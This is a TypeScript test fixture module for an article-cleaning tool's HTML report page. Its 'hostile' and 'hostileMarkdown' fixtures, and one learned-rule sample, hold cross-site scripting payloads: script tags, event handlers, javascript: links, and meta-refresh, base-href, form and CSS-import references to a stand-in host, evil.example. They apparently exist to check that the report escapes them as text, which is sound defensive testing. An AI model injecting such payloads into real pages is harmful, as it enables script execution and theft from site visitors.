/** Articles for the page's tests: converted for real, so that records and offsets are what the tool gives. */
import { convert } from '../../src/convert.js';
import { decodeString } from '../../src/input/decode.js';
import { emptyResult } from '../../src/output/result.js';
import type { Made } from '../../src/report/made.js';
import { makePanel } from '../../src/report/page/panel.js';
import { resultRenderer } from '../../src/report/page/result-view.js';
import { Telling } from '../../src/report/page/telling.js';
import { Page } from '../../src/report/page.js';
import { openProposals } from '../../src/report/proposals.js';
import type { ArticleRecord, BodyKind, LoggedChange, RuleDefinition } from '../../src/types.js';

/** An article as the page is told of it, with the input that the offsets of its log refer to. */
export interface PageArticle {
  record: ArticleRecord;
  weights: readonly number[];
  triage: readonly string[];
  source: string;
  bodyKind: BodyKind;
}

export const made: Made = {
  version: '1.2.3',
  date: '2026-03-01 12:30 UTC',
  folder: '/home/<you>/blog',
  command: 'article-clean report posts',
};

export async function article(source: string, text: string): Promise<PageArticle> {
  const { record, weights, triage, bodyKind } = await convert(text, { source });
  return { record, weights, triage, bodyKind, source: decodeString(text).text };
}

export interface PageFailure {
  path: string;
  message: string;
}

export async function page(
  articles: Iterable<PageArticle | PageFailure> | AsyncIterable<PageArticle | PageFailure>,
  { limit = 200, rules = [] as RuleDefinition[] } = {},
): Promise<string> {
  const shown = new Page(limit, made, openProposals(rules));
  const telling = new Telling(limit);
  const render = await resultRenderer();
  let index = 0;
  for await (const one of articles) {
    if ('path' in one) {
      shown.fail(one.path, one.message);
      continue;
    }
    const { record, weights, triage, source, bodyKind } = one;
    const { kept, removed, changes, title, warnings } = record;
    const id = index++;
    const log: LoggedChange[] = changes.map((change, at) => ({ ...change, characters: weights[at] ?? 0 }));
    const told = {
      ...emptyResult(id),
      source: record.source,
      title,
      length: source.length,
      kept,
      removed,
      triage,
      warnings,
      log,
    };
    const isShown = telling.add({ id, kept, removed, triage, changes: changes.length });
    shown.add(told, isShown ? makePanel(record, source, { id, triage }, render, bodyKind) : null);
  }
  return [...shown.parts()].join('');
}

/** As `learn` writes it, and as somebody with bad intentions may have changed it. */
export const proposed: RuleDefinition = {
  name: 'learned-line-abc123',
  enabled: false,
  why: '3 articles repeat it.',
  line: '^At noon the "bell" <rings>\\.$',
  in: ['posts', 'wide'],
  learned: {
    grade: 'likely',
    reason: 'the same line at the tail of 3 articles',
    articles: 3,
    source: 'posts',
    share: 0.5,
    first: '2019-01-12',
    last: '2019-01-14',
    characters: 60,
    samples: [{ path: 'a.html', text: '<script>pwned()</script> rings.' }, 7, null],
    nearMisses: [{ path: 'b.html', text: 'At noon it rains.' }],
  },
};

export const harbour = `---
title: The harbour in winter
date: 2019-01-12
---
<!-- ad slot 4 --><h2>Ice</h2>
<p style="color:red">The ferry waits &amp; the ice <b>creaks</b> under the quay.</p>
<ul><li>One rope</li><li>Two hooks</li></ul>
<p><img src="https://example.org/ferry.jpg" alt="The ferry"> At noon the bell rings.</p>
<div class="qrcode"><img src="qr.png" alt="QR code"><p>Scan the QR code to follow us</p></div>
`;

/** Everything here must stay text. What would run calls \`pwned\`; what would load asks evil.example. */
export const hostile = `---
title: "</title></script><script>pwned()</script><img src=x onerror=pwned()>"
tags: ["</pre><script>pwned()</script>"]
---
<script>pwned()</script></script><script src="https://evil.example/a.js"></script>
<p onclick="pwned()">Text with <a href="javascript:pwned()">a script link</a> and <a href=" JaVaScRiPt:pwned()">one more</a>.</p>
<img src=x onerror=pwned()><img src="https://evil.example/pixel.png" alt="</i><script>pwned()</script>">
<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">
<iframe srcdoc="<script>parent.pwned()</script>"></iframe><object data="https://evil.example/o"></object>
<svg onload="pwned()"><style>@import url(https://evil.example/s.css);</style></svg>
<p>&lt;script&gt;pwned()&lt;/script&gt; &lt;img src=x onerror=pwned()&gt; &lt;/textarea&gt;&lt;/style&gt; --&gt; ]]&gt;</p>
<pre><code>&lt;/code&gt;&lt;/pre&gt;&lt;script&gt;pwned()&lt;/script&gt;</code></pre>
<details open ontoggle="pwned()"><form action="https://evil.example/"><button autofocus onfocus="pwned()">Go</button></form></details>
<a id="data" name="data">An element with the name of ours</a> <a id="rows">and one more</a>
`;

/** Markdown that tries the same. */
export const hostileMarkdown = `# </h1><script>pwned()</script>

[click](javascript:pwned()) ![x](https://evil.example/i.png "onerror=pwned()") <img src=x onerror=pwned()>

<javascript:pwned()> [data](data:text/html,<script>pwned()</script>) [web](https://example.org/"onmouseover="pwned())

\`\`\`"><script>pwned()</script>
</code></pre><script>pwned()</script>
\`\`\`
`;

/** Two removals of one rule that are not alike. */
export const codes = `<div class="qrcode"><p>Another code to scan: tea</p><img src="qr2.png" alt="QR code"></div>
<div class="qrcode"><p>A third code</p><img src="qr3.png" alt="QR code"></div>
`;
